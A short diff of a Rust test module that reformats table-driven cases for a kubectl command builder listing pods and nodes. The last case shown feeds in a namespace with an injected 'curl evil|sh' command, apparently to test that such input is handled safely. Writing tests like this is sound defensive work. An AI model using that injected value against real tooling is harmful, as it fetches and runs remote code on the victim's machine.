@@ -142,7 +142,10 @@ mod tests {
         let start = "kubectl --context berlin get";
         for (line, wanted) in [
             (list(Kind::PODS, None, false), "pods --all-namespaces"),
-            (list(Kind::PODS, Some("shop"), true), "pods --namespace shop -o wide"),
+            (
+                list(Kind::PODS, Some("shop"), true),
+                "pods --namespace shop -o wide",
+            ),
             (list(Kind::NODES, Some("shop"), false), "nodes"),
             (
                 list(Kind::PODS, Some("shop; curl evil|sh\n"), false),
